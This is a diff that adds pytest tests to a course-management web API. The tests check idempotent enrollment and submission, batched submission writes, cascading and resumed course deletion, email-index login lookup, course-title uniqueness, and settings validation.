+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    due = (datetime.utcnow() + timedelta(days=2)).isoformat()
+    assignment = client.post(
+        f"/assignments/courses/{course['id']}", json={"title": "Retry task", "due_date": due}, headers=auth_headers_admin
+    ).json()
+    submit_url = f"/assignments/{assignment['id']}/submit"
+    assert client.post(submit_url, json={"message": "Too early"}, headers=auth_headers_student).status_code == 400
+
+    keyed = {**auth_headers_student, "Idempotency-Key": "enroll-1"}
+    with query_budget(max_queries=4):
+        first = client.post(f"/courses/{course['id']}/enroll", headers=keyed)
+    assert first.status_code == HTTPStatus.CREATED
+    retry = client.post(f"/courses/{course['id']}/enroll", headers=keyed)
+    assert retry.status_code == HTTPStatus.CREATED
+    assert retry.json() == first.json()
+    assert client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student).status_code == 409
+    assert client.get(f"/courses/{course['id']}", headers=auth_headers_admin).json()["students_count"] == 1
+
+    keyed = {**auth_headers_student, "Idempotency-Key": "submit-1"}
+    with query_budget(max_queries=3):
+        submitted = client.post(submit_url, json={"message": "Final answer"}, headers=keyed)
+    assert submitted.status_code == HTTPStatus.CREATED
+    replay = client.post(submit_url, json={"message": "Final answer"}, headers=keyed)
+    assert replay.status_code == HTTPStatus.CREATED
+    assert replay.json() == submitted.json()
+    other = client.post(submit_url, json={"message": "Second answer"}, headers=auth_headers_student)
+    assert other.json()["id"] != submitted.json()["id"]
+    assert len(client.get(f"/assignments/{assignment['id']}/submissions", headers=auth_headers_admin).json()) == 2
+    relinked = client.post(submit_url, json={"message": "Final answer", "link": "https://example.org/v2"}, headers=keyed)
+    assert relinked.status_code == HTTPStatus.CONFLICT
+    assert relinked.json()["detail"]["code"] == "IDEMPOTENCY_KEY_REUSED"
+    reused = client.post("/assignments/999999/submit", json={"message": "Final answer"}, headers=keyed)
+    assert reused.status_code == HTTPStatus.CONFLICT
+    assert reused.json()["detail"]["code"] == "IDEMPOTENCY_KEY_REUSED"
+    missing = client.post("/assignments/999999/submit", json={"message": "Nowhere"}, headers=auth_headers_student)
+    assert missing.status_code == HTTPStatus.NOT_FOUND
+
+
+def test_batched_submissions_are_group_committed(
+    client, connection, auth_headers_admin, auth_headers_student, student_user, monkeypatch
+):
+    import app.api.assignments as assignments_api
+    from app.core.config import settings
+    from app.services.submission_writer import SubmissionWriter
+    from sqlalchemy.exc import IntegrityError
+    from tests.conftest import TestingSessionLocal
+
+    writer = SubmissionWriter(
+        interval_ms=50, max_batch=100, queue_size=100, session_factory=lambda: TestingSessionLocal(bind=connection)
+    )
+    monkeypatch.setattr(settings, "submission_ingest_mode", "batched")
+    monkeypatch.setattr(assignments_api, "submission_writer", writer)
+    course = client.post("/courses", json={"title": "Deadline Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    due = (datetime.utcnow() + timedelta(days=1)).isoformat()
+    assignment = client.post(
+        f"/assignments/courses/{course['id']}", json={"title": "Burst task", "due_date": due}, headers=auth_headers_admin
+    ).json()
+    submit_url = f"/assignments/{assignment['id']}/submit"
+    assert client.post(submit_url, json={"message": "Not enrolled"}, headers=auth_headers_student).status_code == 400
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+
+    try:
+        futures = [
+            writer.enqueue({"assignment_id": assignment["id"], "user_id": student_user.id, "message": f"Answer {index}"})
+            for index in range(5)
+        ]
+        stored = [future.result(timeout=5) for future in futures]
+        assert writer.batches == 1
+        assert len({submission.id for submission in stored}) == 5
+
+        keyed = {**auth_headers_student, "Idempotency-Key": "burst-1"}
+        submitted = client.post(submit_url, json={"message": "Final answer"}, headers=keyed)
+        assert submitted.status_code == HTTPStatus.CREATED
+        assert submitted.json()["assignment_id"] == assignment["id"]
+        replay = client.post(submit_url, json={"message": "Final answer"}, headers=keyed)
+        assert replay.json() == submitted.json()
+        missing = client.post("/assignments/999999/submit", json={"message": "Nowhere"}, headers=auth_headers_student)
+        assert missing.status_code == HTTPStatus.NOT_FOUND
+
+        async def conflicting(values):
+            raise IntegrityError("INSERT INTO assignment_submissions", values, Exception("constraint failed"))
+
+        monkeypatch.setattr(writer, "submit", conflicting)
+        raced = client.post(submit_url, json={"message": "Raced"}, headers=auth_headers_student)
+        assert raced.status_code == HTTPStatus.CONFLICT
+        assert raced.json()["detail"]["code"] == "SUBMISSION_CONFLICT"
+    finally:
+        writer.shutdown()
+    assert writer.written == 6
+    assert len(client.get(f"/assignments/{assignment['id']}/submissions", headers=auth_headers_admin).json()) == 6
+
+
+def test_course_delete_cascades_in_database(
+    client, connection, db_session, auth_headers_admin, auth_headers_student, query_budget, monkeypatch
+):
+    import app.services.course_service as course_service
+    from sqlalchemy import func, select
+
+    from app.models.assignment import Assignment
+    from app.models.assignment_submission import AssignmentSubmission
+    from app.models.enrollment import Enrollment
+    from sqlalchemy.orm import Session
+
+    due = (datetime.utcnow() + timedelta(days=1)).isoformat()
+    course_ids = []
+    for title in ("Doomed Course", "Huge Doomed Course"):
+        course = client.post("/courses", json={"title": title}, headers=auth_headers_admin).json()
+        client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+        client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+        assignment = client.post(
+            f"/assignments/courses/{course['id']}", json={"title": "Last task", "due_date": due}, headers=auth_headers_admin
+        ).json()
+        for index in range(3):
+            client.post(
+                f"/assignments/{assignment['id']}/submit", json={"message": f"Answer {index}"}, headers=auth_headers_student
+            )
+        course_ids.append(course["id"])
+
+    def remaining(course_id: int) -> tuple[int, int, int]:
+        return (
+            db_session.scalar(select(func.count()).select_from(Enrollment).where(Enrollment.course_id == course_id)),
+            db_session.scalar(select(func.count()).select_from(Assignment).where(Assignment.course_id == course_id)),
+            db_session.scalar(
+                select(func.count())
+                .select_from(AssignmentSubmission)
+                .join(Assignment)
+                .where(Assignment.course_id == course_id)
+            ),
+        )
+
+    with query_budget(max_queries=5):
+        assert client.delete(f"/courses/{course_ids[0]}", headers=auth_headers_admin).status_code == HTTPStatus.NO_CONTENT
+    assert remaining(course_ids[0]) == (0, 0, 0)
+
+    monkeypatch.setattr(course_service, "SessionLocal", lambda: Session(bind=connection))
+    monkeypatch.setattr(course_service.settings, "course_delete_chunk_size", 2)
+    response = client.delete(f"/courses/{course_ids[1]}", params={"background": True}, headers=auth_headers_admin)
+    assert response.status_code == HTTPStatus.ACCEPTED
+    assert client.get(f"/courses/{course_ids[1]}", headers=auth_headers_admin).status_code == HTTPStatus.NOT_FOUND
+    assert remaining(course_ids[1]) == (0, 0, 0)
+
+
+def test_user_delete_decrements_students_count(client, db_session, auth_headers_admin, auth_headers_student, student_user):
+    from app.models.course import Course
+
+    course = client.post("/courses", json={"title": "Left Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+    assert db_session.get(Course, course["id"]).students_count == 1
+
+    db_session.delete(student_user)
+    db_session.commit()
+    db_session.expire_all()
+    assert db_session.get(Course, course["id"]).students_count == 0
+
+
+def test_failed_background_course_delete_is_resumed(
+    client, connection, db_session, auth_headers_admin, auth_headers_student, caplog, monkeypatch
+):
+    import app.services.course_service as course_service
+    from sqlalchemy.orm import Session
+
+    from app.models.course import Course
+
+    course = client.post("/courses", json={"title": "Half Deleted Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+
+    def broken_session():
+        raise RuntimeError("database went away")
+
+    monkeypatch.setattr(course_service, "SessionLocal", broken_session)
+    with caplog.at_level("ERROR", logger="app.courses"):
+        response = client.delete(f"/courses/{course['id']}", params={"background": True}, headers=auth_headers_admin)
+    assert response.status_code == HTTPStatus.ACCEPTED
+    assert f"Background delete of course {course['id']} failed" in caplog.text
+    assert client.get(f"/courses/{course['id']}", headers=auth_headers_admin).status_code == HTTPStatus.NOT_FOUND
+    listed = client.get("/courses", headers=auth_headers_admin).json()["items"]
+    assert course["id"] not in {item["id"] for item in listed}
+    assert db_session.get(Course, course["id"]).pending_delete
+
+    monkeypatch.setattr(course_service, "SessionLocal", lambda: Session(bind=connection))
+    assert course_service.purge_pending_courses(Session(bind=connection)) == (1, 0)
+    db_session.expire_all()
+    assert db_session.get(Course, course["id"]) is None
+
+
+def test_login_lookup_uses_normalized_email_index(client, db_session, admin_user):
+    from sqlalchemy import select, text
+
+    from app.models.user import User
+
+    assert admin_user.email_normalized == "admin@example.com"
+    response = client.post("/auth/login", json={"email": "  Admin@Example.COM", "password": "safe_pass123"})
+    assert response.status_code == HTTPStatus.OK
+
+    statement = select(User).where(User.email_normalized == "admin@example.com")
+    compiled = statement.compile(db_session.get_bind(), compile_kwargs={"literal_binds": True})
+    plan = " ".join(row[-1] for row in db_session.execute(text(f"EXPLAIN QUERY PLAN {compiled}")))
+    assert "USING INDEX ix_users_email_normalized" in plan
+
+
+def test_course_title_uniqueness_is_enforced_by_the_database(client, auth_headers_admin, query_budget):
+    first = client.post("/courses", json={"title": "Алгебра"}, headers=auth_headers_admin).json()
+    other = client.post("/courses", json={"title": "Geometry"}, headers=auth_headers_admin).json()
+
+    with query_budget(max_queries=4):
+        duplicate = client.post("/courses", json={"title": "  АЛГЕБРА "}, headers=auth_headers_admin)
+    assert duplicate.status_code == HTTPStatus.BAD_REQUEST
+    assert duplicate.json()["detail"]["code"] == "COURSE_EXISTS"
+
+    renamed = client.put(f"/courses/{other['id']}", json={"title": "алгебра"}, headers=auth_headers_admin)
+    assert renamed.status_code == HTTPStatus.BAD_REQUEST
+    assert renamed.json()["detail"]["code"] == "COURSE_EXISTS"
+    assert client.get(f"/courses/{other['id']}", headers=auth_headers_admin).json()["title"] == "Geometry"
+    recased = client.put(f"/courses/{first['id']}", json={"title": "АЛГЕБРА"}, headers=auth_headers_admin)
+    assert recased.status_code == HTTPStatus.OK
+
+
+def test_only_title_constraints_map_to_course_exists():
+    from types import SimpleNamespace
+
+    from sqlalchemy.exc import IntegrityError
+
+    from app.services.course_service import _is_title_conflict
+
+    def error(orig) -> IntegrityError:
+        return IntegrityError("INSERT INTO courses", {}, orig)
+
+    assert _is_title_conflict(error(Exception("UNIQUE constraint failed: courses.title_normalized")))
+    assert not _is_title_conflict(error(Exception("NOT NULL constraint failed: courses.title")))
+    assert not _is_title_conflict(error(Exception("UNIQUE constraint failed: courses.subtitle")))
+
+    class PgError(Exception):
+        def __init__(self, constraint_name: str) -> None:
+            super().__init__(f'violates constraint "{constraint_name}" on title')
+            self.diag = SimpleNamespace(constraint_name=constraint_name)
+
+    assert _is_title_conflict(error(PgError("ix_courses_title_normalized")))
+    assert not _is_title_conflict(error(PgError("courses_created_by_fkey")))
+
+
+def test_settings_reject_unsupported_database():
+    import pytest
+    from pydantic import ValidationError
+
+    from app.core.config import Settings
+
+    with pytest.raises(ValidationError, match="DATABASE_URL"):
+        Settings(database_url="mysql://user@localhost/lms")
+    assert Settings(database_url="postgresql+psycopg://user@localhost/lms").database_url.startswith("postgresql")
+
+
+def test_settings_reject_unknown_submission_modes():
+    import pytest
+    from pydantic import ValidationError
+
+    from app.core.config import Settings
+
+    with pytest.raises(ValidationError, match="SUBMISSION_INGEST_MODE"):
+        Settings(submission_ingest_mode="batch")
+    with pytest.raises(ValidationError, match="SUBMISSION_DURABILITY"):
+        Settings(submission_durability="fast")
+    assert Settings(submission_ingest_mode="batched").submission_ingest_mode == "batched"